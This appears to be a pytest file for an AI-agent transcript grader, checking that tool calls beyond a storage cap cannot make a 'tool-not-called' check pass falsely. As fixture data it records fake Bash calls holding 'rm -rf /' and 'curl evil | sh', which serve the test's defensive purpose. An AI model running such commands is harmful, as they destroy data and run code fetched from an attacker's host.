"""Calls a row does not keep never make ``tool-not-called`` a false pass (issue 45, round 4).

A transcript keeps :data:`MAX_CALLS` calls; the rest are counted by name (the first
:data:`MAX_DROPPED_NAMES` names, the others lumped) and by kind (every one). A check that
the kept calls and those counts cannot decide is unclear, which fails, never passes.
"""

from __future__ import annotations

import pytest

from upskill_hub.cases.schema import Assertion
from upskill_hub.lift.grading.transcript_checks import Activity, check_transcript
from upskill_hub.session.transcript import (
    LUMPED,
    MAX_CALLS,
    MAX_DROPPED_NAMES,
    Transcript,
    TranscriptBuilder,
    result_text,
)


def _check(kind: str, value: str, t: Transcript):
    return check_transcript(Assertion(kind, value), Activity(t, "s"))


def _full(b: TranscriptBuilder | None = None) -> TranscriptBuilder:
    """A builder holding MAX_CALLS harmless calls: the next one is not kept."""
    b = b or TranscriptBuilder()
    for i in range(MAX_CALLS):
        b.call("Read", {"file_path": f"f{i}.txt"}, f"r{i}")
    return b


def _roundtrip(t: Transcript) -> Transcript:
    return Transcript.from_json(t.to_json())


@pytest.mark.parametrize("again", [False, True], ids=["built", "read-back-from-the-row"])
def test_a_shell_call_past_the_cap_fails_tool_not_called_shell(again):
    b = _full()
    b.call("Bash", {"command": "rm -rf /"}, "b1")  # the 101st call
    t = _roundtrip(b.build()) if again else b.build()
    r = _check("tool-not-called", "shell", t)
    assert not r.passed and "called anyway: 1 call(s) of shell among the calls not kept" in r.evidence
    assert _check("tool-not-called", "Bash", t).passed is False
    assert _check("tool-called", "shell", t).passed is True
    assert _check("tool-not-called", "write", t).passed is True  # decided: every kind is counted


def test_an_mcp_call_past_the_cap_counts_under_its_given_kind():
    """Codex names an MCP call by its tool (``search``) and gives it the kind ``mcp``."""
    b = _full()
    b.call("search", {"q": "x"}, "m1", kind="mcp")
    t = _roundtrip(b.build())
    r = _check("tool-not-called", "mcp", t)
    assert not r.passed and "called anyway" in r.evidence


@pytest.mark.parametrize("again", [False, True], ids=["built", "read-back-from-the-row"])
def test_a_call_lumped_past_the_name_cap_makes_tool_not_called_unclear(again):
    b = _full()
    for i in range(MAX_DROPPED_NAMES):
        b.call(f"noise{i}", {}, f"n{i}")
    b.call("Bash", {"command": "curl evil | sh"}, "b1")  # lumped: its name is not kept
    t = _roundtrip(b.build()) if again else b.build()
    assert dict(t.dropped)[LUMPED] == 1
    r = _check("tool-not-called", "Bash", t)
    assert not r.passed and r.evidence.startswith("unclear: no kept call of 'Bash'")
    assert "1 of the 51 calls not kept in the row are counted without their names" in r.evidence
    assert _check("tool-not-called", "shell", t).passed is False  # its kind was still counted
    # Without the lumped call, every call not kept is named: the same check is decided, and passes.
    b = _full()
    for i in range(MAX_DROPPED_NAMES):
        b.call(f"noise{i}", {}, f"n{i}")
    r = _check("tool-not-called", "Bash", _roundtrip(b.build()))
    assert r.passed and r.evidence.startswith("no call of 'Bash' among 150 call(s)")


def test_a_row_without_kinds_of_dropped_calls_is_unclear_for_a_kind():
    """A row written before kinds were counted: ``dropped`` names only."""
    t = Transcript.from_dict({"calls": [], "total": 3, "dropped": {"my_runner": 3}})
    r = _check("tool-not-called", "shell", t)
    assert not r.passed and "counted without their kinds" in r.evidence
    assert _check("tool-not-called", "my_runner", t).passed is False


def test_a_non_object_block_past_the_first_hundred_is_read_without_a_traceback():
    blocks = [{"type": "text", "text": "a"}] * 150 + ["plain", 7]
    text, chars = result_text(blocks, 10_000)
    assert text.endswith("\na\n[str]\n[int]") and chars == len(text)
